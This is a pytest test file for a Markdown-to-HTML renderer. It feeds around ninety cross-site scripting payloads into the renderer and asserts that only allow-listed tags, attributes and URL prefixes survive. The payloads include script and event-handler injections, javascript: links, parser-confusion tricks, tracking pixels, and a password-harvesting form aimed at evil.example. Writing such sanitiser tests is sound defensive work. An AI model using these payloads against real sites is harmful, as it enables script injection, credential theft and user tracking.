"""An attacker's Markdown: what comes out is parsed like a browser would, and nothing in it may run."""

from html.parser import HTMLParser

import pytest
import tinyhtml5  # type: ignore[import-untyped]
from hypothesis import given
from hypothesis import strategies as st

from modules.render import render, render_inline

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"media/a.svg\" srcset=\"https://evil.example/x 2x\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<base href=\"javascript:/a/-alert(1)//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"https://x.example\" target=_top onclick=alert(1) ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](java&#115;cript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x\" onerror=\"alert(1)](media/a.svg)",
    "![x](media/a.svg \"t\\\" onerror=alert(1)\")",
    "<javascript:alert(1)>",
    "text\n{: onclick=\"alert(1)\" style=\"color:red\"}",
    "# H {: #x onmouseover=alert(1) }",
    "```html {onclick=alert(1) style=\"x\"}\n<script>alert(1)</script>\n```",
    "``` {.\"><script>alert(1)</script>}\nx\n```",
    "!!! note\" onclick=alert(1) \"<script>alert(1)</script>\"\n    x",
    "??? \"\\\"><img src=x onerror=alert(1)>\"\n    x",
    "=== \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "$\\text{<script>alert(1)</script>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$<img src=x onerror=alert(1)>$$",
    "$\\style{background:url(javascript:alert(1))}{x}$",
    "- [x] <img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<plaintext><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<div id=main><div id=__proto__><a id=location name=location href=x>x</a></div></div>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<a href='media/x.pdf#\"><script>alert(1)</script>'>x</a>",
]
HARMLESS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "details", "div", "dl", "dt", "em", "h2", "h3", "hr", "img", "input",
    "li", "math", "mfrac", "mi", "mn", "mo", "mrow", "msub", "msubsup", "msup", "mtext", "ol", "p", "pre", "span", "strong", "summary", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}
ATTRIBUTES = {
    "align", "alt", "aria-label", "checked", "class", "disabled", "display", "height", "href", "id", "loading", "open", "rel", "src",
    "stretchy", "tabindex", "title", "type", "width",
}
STARTS = {"href": ("https://", "/media/digest/", "#t-"), "src": ("/media/digest/",), "id": ("t-",)}


def url(path: str) -> str:
    return f"/media/digest/{path}"


class Elements(HTMLParser):
    """All tags and attributes as the standard library's parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    elements = Elements(html).found
    # A second parser that repairs HTML as browsers do: what looks like text to one must not be a tag to the other.
    tree = tinyhtml5.parse(f"<!doctype html><html><head></head><body>{html}</body></html>")
    for element in tree.find(".//{*}body").iter():
        name = str(element.tag).rsplit("}", 1)[-1]
        if name != "body":
            elements.append((name, {str(key).rsplit("}", 1)[-1]: value for key, value in element.attrib.items()}))
    for tag, attributes in elements:
        assert tag in HARMLESS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        for name, starts in STARTS.items():
            assert str(attributes.get(name, starts[0])).startswith(starts), attributes
        if tag == "input":
            assert (attributes["type"], attributes["disabled"]) == ("checkbox", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_in_markdown_comes_out_harmless(payload: str) -> None:
    for text in (payload, f"Text {payload} text", f"- {payload}\n\n> {payload}", f"<div>\n{payload}\n</div>"):
        assert_harmless(render(text, language="de", media_url=url, prefix="t-").html)
        assert_harmless(render_inline(text, language="en", media_url=url).html)


@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.sampled_from([" ", "\n", "`", "$", ">", "<", "\"", "'", "-->", "*"])), max_size=5))
def test_attacks_mixed_with_each_other_come_out_harmless(payloads: list[str]) -> None:
    assert_harmless(render("".join(payloads), language="de", media_url=url, prefix="t-").html)


@pytest.mark.parametrize(("text", "reported"), [
    ("<script>alert(1)</script>", "<script>"),
    ("<p onclick=x>a</p>", "onclick"),
    ("<p style='color:red'>a</p>", "style"),
    ("<iframe src=https://x.example></iframe>", "<iframe>"),
    ("[x](javascript:alert(1))", "javascript:alert(1)"),
    ("![x](https://evil.example/p.gif)", "https://evil.example/p.gif"),
    ("<h1>a</h1>", "<h1>"),
])
def test_what_is_left_out_is_reported(text: str, reported: str) -> None:
    assert reported in render(text, language="de", media_url=url).dropped


def test_nothing_is_reported_about_ordinary_markdown() -> None:
    text = "# A\n\n- [x] b\n\n```python\nx\n```\n\n| a |\n|---|\n| b |\n\n$x$ [l](https://x.example)[^1]\n\n[^1]: n\n\n!!! note\n    a\n\n=== \"t\"\n    u\n"
    assert render(text, language="de", media_url=url).dropped == []
